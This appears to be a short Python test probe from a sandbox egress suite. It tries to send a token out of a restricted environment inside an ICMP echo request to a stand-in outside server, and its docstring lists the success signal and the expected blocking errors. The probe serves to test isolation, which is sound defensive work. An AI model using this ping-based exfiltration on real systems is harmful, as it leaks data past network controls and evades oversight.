"""Send data out in a ping.

Attempts:  send an echo request that holds the data to a server that stands in for one outside.
Success:   the stand-in hears it.
Proof:     heard icmp
Wait:      0.3
Runs:      python
Executor:  import rule
Host:      the kernel's ping_group_range (EACCES, EPERM)
Socket:    no network (ENETUNREACH, EACCES, EPERM)
"""

import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sender:
    sender.sendto(b"\10\0\0\0\0\1\0\1" + target["token"].encode(), (target["outside"], 0))
